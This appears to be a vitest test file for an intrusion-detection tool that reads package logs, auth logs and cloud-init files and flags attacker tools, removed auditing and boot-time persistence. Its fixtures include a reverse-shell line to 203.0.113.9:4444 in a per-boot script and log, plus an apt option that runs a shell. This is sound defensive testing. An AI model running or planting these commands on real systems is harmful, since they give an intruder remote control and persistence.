import { describe, expect, it } from 'vitest';
import { resultsOf, told } from './run.js';

const day = (time: string, rest: string) => `2026-11-20 ${time} ${rest}\n`;
/** Something that is grave, and when. */
const INTRUDER = {
  'fs/var/log/auth.log':
    Array.from(
      { length: 30 },
      (_, at) =>
        `Nov 20 02:00:${String(at).padStart(2, '0')} web-1 sshd[1]: Failed password for root from 198.51.100.77 port 40000 ssh2\n`,
    ).join('') +
    'Nov 20 02:01:00 web-1 sshd[1]: Accepted password for root from 198.51.100.77 port 40000 ssh2\n',
};

describe('packages', () => {
  it('of attackers are told, and watchers that were removed', async () => {
    const { bad, events } = await resultsOf({
      'fs/var/log/dpkg.log':
        day('02:10:00', 'install masscan:amd64 <none> 2:1.3.2') +
        day('02:11:00', 'remove auditd:amd64 1:3.0.9-1 <none>'),
    });
    expect(told(bad)).toEqual([
      'package.attack-tool package:masscan fs/var/log/dpkg.log:1',
      'package.defence-removed package:auditd fs/var/log/dpkg.log:2',
    ]);
    expect(events.map(({ kind }) => kind)).toEqual(['package.installed', 'package.removed']);
  });

  it('that everybody may need are told only when an intruder was there', async () => {
    const log = { 'fs/var/log/dpkg.log': day('02:10:00', 'install nmap:amd64 <none> 7.93') };
    expect((await resultsOf(log)).bad).toEqual([]);
    expect(told((await resultsOf({ ...INTRUDER, ...log })).bad)).toContain(
      'package.dual-use package:nmap fs/var/log/dpkg.log:1',
    );
  });

  it('that are replaced are not missing', async () => {
    const log =
      day('02:10:00', 'remove rsyslog:amd64 8.2 <none>') + day('02:10:05', 'install rsyslog:amd64 8.2 8.3');
    expect((await resultsOf({ 'fs/var/log/dpkg.log': log })).bad).toEqual([]);
  });

  it('are told when the manager was made to run a shell', async () => {
    const log =
      'Start-Date: 2026-11-20  02:11:52\nCommandline: apt-get update -o APT::Update::Pre-Invoke::=/bin/sh\nRequested-By: deploy (1001)\nEnd-Date: 2026-11-20  02:12:01\n';
    const { bad } = await resultsOf({ 'fs/var/log/apt/history.log': log });
    expect(told(bad)).toEqual(['package.command user:deploy fs/var/log/apt/history.log:2']);
  });
});

describe('what runs at boot', () => {
  const shell = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';

  it('is told from the log, once, and from the scripts that will run again', async () => {
    const line = `2026-11-20 02:11:52,123 - subp.py[DEBUG]: Running command ['/bin/bash', '-c', '${shell}'] with allowed return codes [0] (shell=False)\n`;
    const { bad, events } = await resultsOf({
      'fs/var/log/cloud-init.log': line + line,
      'fs/var/lib/cloud/scripts/per-boot/update.sh': `#!/bin/bash\n${shell}\n`,
      'fs/var/lib/cloud/instances/i-0abc/user-data.txt': '#cloud-config\npackages: [nginx]\n',
    });
    expect(told(bad)).toEqual([
      'log.cloud-init-command service:cloud-init fs/var/log/cloud-init.log:1',
      'persistence.user-data file:/var/lib/cloud/scripts/per-boot/update.sh fs/var/lib/cloud/scripts/per-boot/update.sh:2',
    ]);
    expect(events.filter(({ kind }) => kind === 'cloud-init.command')).toHaveLength(2);
  });

  it('may install and download', async () => {
    const script =
      '#!/bin/bash\nyum install -y httpd\ncurl -fsSL https://example.com/agent.rpm -o /root/agent.rpm\n';
    expect((await resultsOf({ 'fs/var/lib/cloud/instance/user-data.txt': script })).bad).toEqual([]);
  });
});
